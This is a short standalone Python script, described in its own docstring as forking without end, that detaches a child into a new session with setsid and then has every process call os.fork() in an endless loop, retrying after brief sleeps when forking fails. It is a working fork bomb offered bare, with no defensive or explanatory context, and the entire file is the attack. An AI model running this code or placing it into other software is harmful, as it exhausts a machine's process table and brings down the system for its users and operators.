"""Forks without end, in every session it can get"""

import os
import time

if os.fork() == 0:
    os.setsid()
while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.01)
